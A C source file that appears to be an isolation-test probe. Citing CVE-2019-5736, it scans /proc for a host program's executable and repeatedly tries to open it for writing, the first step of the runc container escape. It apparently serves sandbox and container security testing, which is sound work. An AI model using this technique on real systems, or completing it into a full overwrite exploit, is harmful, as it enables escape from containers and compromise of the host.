// wall: pid-namespace  overlaps: mounts  source: RT-01
// Scans /proc/*/exe for a program that is not of the view and opens it for writing, for three
// seconds (CVE-2019-5736). Argument: the program's path on the host.
#include <dirent.h>
#include <time.h>

#include "attack.h"

static int Try(const char* pid, const char* wanted) {
  char path[300], target[4096];
  snprintf(path, sizeof path, "/proc/%s/exe", pid);
  ssize_t count = readlink(path, target, sizeof target - 1);
  if (count < 0) return 0;
  target[count] = 0;
  if (strcmp(target, wanted) != 0) return 0;
  int held = open(path, O_PATH);
  if (held < 0) return 0;
  snprintf(path, sizeof path, "/proc/self/fd/%d", held);
  for (int i = 0; i < 2000; ++i) {
    int fd = open(path, O_WRONLY);
    if (fd >= 0) return 1;
    if (errno != ETXTBSY) break;
    usleep(500);
  }
  close(held);
  return 0;
}

int main(int argc, char** argv) {
  const char* wanted = Argument(argc, argv, 1);
  time_t end = time(NULL) + 3;
  long rounds = 0;
  while (time(NULL) < end) {
    DIR* proc = opendir("/proc");
    if (!proc) return Stopped("opendir");
    for (struct dirent* entry; (entry = readdir(proc));) {
      if (entry->d_name[0] < '0' || entry->d_name[0] > '9') continue;
      if (Try(entry->d_name, wanted)) return Succeeded("opened it for writing");
    }
    closedir(proc);
    ++rounds;
  }
  printf("%ld rounds\n", rounds);
  errno = ENOENT;
  return Stopped("never seen");
}
